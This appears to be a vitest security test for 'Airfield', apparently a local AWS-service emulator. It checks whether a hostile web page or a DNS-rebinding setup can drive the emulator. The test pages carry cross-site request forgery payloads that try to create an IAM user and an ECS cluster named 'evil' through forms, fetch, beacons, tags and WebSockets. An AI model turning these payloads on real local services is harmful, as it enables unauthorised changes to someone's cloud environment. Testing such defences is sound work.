import { EventEmitter, once } from "node:events";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import { connect, createServer as createTcpServer, type AddressInfo } from "node:net";
import { json } from "node:stream/consumers";
import { CloudTrailClient, LookupEventsCommand } from "@aws-sdk/client-cloudtrail";
import { ECSClient, ListClustersCommand } from "@aws-sdk/client-ecs";
import { IAMClient, ListUsersCommand } from "@aws-sdk/client-iam";
import { expect, test } from "vitest";
import { findBrowser } from "../../bin/setup/browser.js";
import { airfieldProcess, freePort } from "../../src/testing/airfield-process.ts";
import { openBrowser } from "../../src/testing/browser.ts";
import { presignedUrl } from "../../src/testing/signed-request.ts";

/** What a page got of each thing that it tried: the text it could read, or null. */
type Report = Readonly<Record<string, string | null>>;

/** A page takes a second; one that waits for ever fails the test while there is time to clean up. */
const PATIENCE_MS = 30_000;

interface TwoFacedServer extends AsyncDisposable {
  readonly port: number;
  readonly pages: Map<string, string>;
  /** Where pages report to. */
  readonly reportUrl: string;
  /** The next report of a page. */
  report(): Promise<Report>;
}

/**
 * Somebody's web server. As long as its own pages are asked for it answers, under whatever name; everything else goes to Airfield byte by
 * byte, which is what a browser sees when a name is given another address under it (DNS rebinding).
 */
async function twoFacedServer(airfieldPort: number): Promise<TwoFacedServer> {
  const pages = new Map<string, string>();
  const heard = new EventEmitter();
  const own = createServer((request: IncomingMessage, response: ServerResponse) => {
    response.setHeader("connection", "close");
    const page = pages.get(request.url ?? "");
    if (page !== undefined) response.writeHead(200, { "content-type": "text/html" }).end(page);
    else
      void json(request).then((report) => {
        response.end();
        heard.emit("report", report);
      });
  }).listen(0, "127.0.0.1");
  await once(own, "listening");
  const front = createTcpServer((socket) => {
    socket.on("error", () => undefined);
    socket.once("data", (first: Buffer) => {
      const isOwn = first.toString("latin1").startsWith("GET /page");
      const behind = connect(isOwn ? (own.address() as AddressInfo).port : airfieldPort, "127.0.0.1");
      behind.on("error", () => socket.destroy());
      behind.write(first);
      socket.pipe(behind).pipe(socket);
    });
  }).listen(0, "127.0.0.1");
  await once(front, "listening");
  return {
    port: (front.address() as AddressInfo).port,
    reportUrl: `http://127.0.0.1:${(own.address() as AddressInfo).port}/report`,
    pages,
    async report() {
      const [report] = (await once(heard, "report", { signal: AbortSignal.timeout(PATIENCE_MS) })) as [Report];
      return report;
    },
    async [Symbol.asyncDispose]() {
      own.closeAllConnections();
      own.close();
      front.close();
    },
  };
}

/** A page that tries everything and reports what it could read. */
const page = (tries: string, reportUrl: string): string => `<!doctype html><body><script type="module">
  const report = {};
  const attempt = async (name, run) => {
    try { report[name] = (await run()) ?? null; } catch { report[name] = null; }
  };
  // What an element makes of an answer: null where the browser gives it none.
  const element = (tag, members) => new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), members);
    made.onload = () => resolve(tag === "iframe" ? read(made) : "loaded");
    made.onerror = () => resolve(null);
    document.body.append(made);
  });
  const read = (frame) => { try { return frame.contentDocument?.body.textContent || null; } catch { return null; } };
  ${tries}
  await fetch(${JSON.stringify(reportUrl)}, { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
</script></body>`;

/** Of a foreign page, against the endpoint. */
const foreignTries = (target: string, signed: string): string => `
  const target = ${JSON.stringify(target)};
  const action = "Action=CreateUser&UserName=evil&Version=2010-05-08";
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const asked = { method: "POST", headers: { "content-type": type }, body: action };
    await attempt("post " + type, async () => (await fetch(target, asked)).text());
    await attempt("no-cors " + type, async () => (await (await fetch(target, { ...asked, mode: "no-cors" })).text()) || null);
  }
  const headers = { "x-amz-target": "AmazonEC2ContainerServiceV20141113.CreateCluster", "content-type": "application/x-amz-json-1.1" };
  await attempt("preflighted", async () => (await fetch(target, { method: "POST", headers, body: '{"clusterName":"evil"}' })).text());
  await attempt("registry", async () => (await fetch(target + "/v2/_catalog")).text());
  await attempt("registry, with a password", async () => (await fetch(target + "/v2/", { headers: { authorization: "Basic QVdTOng=" } })).text());
  await attempt("a signed URL", async () => (await fetch(${JSON.stringify(signed)})).text());
  await attempt("beacon", async () => (navigator.sendBeacon(target, new URLSearchParams(action)), null));
  for (const [tag, member] of [["script", "src"], ["img", "src"], ["iframe", "src"]])
    await attempt(tag, () => element(tag, { [member]: target + "/?" + action }));
  await attempt("stylesheet", () => element("link", { rel: "stylesheet", href: target + "/?" + action }));
  await attempt("form", () => new Promise((resolve) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "sink" });
    const form = Object.assign(document.createElement("form"), { action: target, method: "post", enctype: "text/plain", target: "sink" });
    form.append(Object.assign(document.createElement("input"), { name: action + "&x", value: "y" }));
    document.body.append(frame, form);
    frame.onload = () => resolve(read(frame));
    form.submit();
  }));
  await attempt("web socket", () => new Promise((resolve) => {
    const socket = new WebSocket(target.replace("http", "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve(null);
  }));`;

/** Of a page whose own name leads to the endpoint now. */
const OWN_TRIES = `
  const text = async (answer) => answer.status + " " + (await answer.text());
  // Without credentials: the registry's challenge would have the browser ask for a password.
  const ask = (path, options) => async () => text(await fetch(path, { credentials: "omit", ...options }));
  await attempt("form", ask("/", { method: "POST", body: new URLSearchParams("Action=ListUsers&Version=2010-05-08") }));
  await attempt("json", ask("/", { method: "POST", headers: { "x-amz-target": "AmazonEC2ContainerServiceV20141113.ListClusters" }, body: "{}" }));
  await attempt("registry", ask("/v2/"));
  await attempt("download", ask("/ecr-download/x"));`;

// `bin/setup.js --test` has installed one wherever the system has a package of it.
test.skipIf(findBrowser() === undefined)(
  "a page of somebody else's reads and changes nothing, also under a name that was given this machine's address",
  async () => {
    const port = await freePort();
    await using web = await twoFacedServer(port);
    const console = `http://console.test:${web.port}`;
    await using airfield = await airfieldProcess({ port, environment: { AIRFIELD_HOST_NAMES: "console.test", AIRFIELD_ORIGINS: console } });
    const open = async (name: string, tries: string): Promise<Report> => {
      web.pages.set("/page", page(tries, web.reportUrl));
      const reported = web.report();
      await using browser = await openBrowser(`http://${name}.test:${web.port}/page`);
      return await Promise.race([reported, browser.ended]);
    };
    const signed = await presignedUrl(airfield.url, "sts", { Action: "GetCallerIdentity", Version: "2011-06-15" });

    const foreign = await open("evil", foreignTries(airfield.url, signed));
    expect(Object.keys(foreign).length).toBeGreaterThan(12);
    expect(Object.entries(foreign).filter(([, text]) => text !== null)).toEqual([]);
    const { Users } = await airfield.client(IAMClient).send(new ListUsersCommand());
    const { clusterArns } = await airfield.client(ECSClient).send(new ListClustersCommand());
    expect([Users, clusterArns]).toEqual([[], []]);
    // They did arrive, and were refused for want of a signature; the signed one was answered, to nobody.
    const { Events = [] } = await airfield.client(CloudTrailClient).send(new LookupEventsCommand());
    const refused = Events.filter(
      ({ EventName, CloudTrailEvent }) => EventName === "CreateUser" && CloudTrailEvent?.includes("MissingAuthentication"),
    );
    expect(refused.length).toBeGreaterThan(4);
    expect(Events.map(({ EventName }) => EventName)).toContain("GetCallerIdentity");

    const rebound = await open("rebound", OWN_TRIES);
    expect(Object.values(rebound)).toHaveLength(4);
    for (const text of Object.values(rebound)) expect(text).toMatch(/^421 .*MisdirectedRequest/);

    // The same pages do more where the operator says so: what is above is not for want of trying.
    expect(await open("console", foreignTries(airfield.url, signed))).toMatchObject({
      "a signed URL": expect.stringContaining("arn:aws:iam::123456789012:root") as string,
      "post text/plain": expect.stringContaining("MissingAuthenticationToken") as string,
    });
    expect(await open("console", OWN_TRIES)).toMatchObject({ form: expect.stringMatching(/^403 .*MissingAuthenticationToken/s) as string });
  },
);
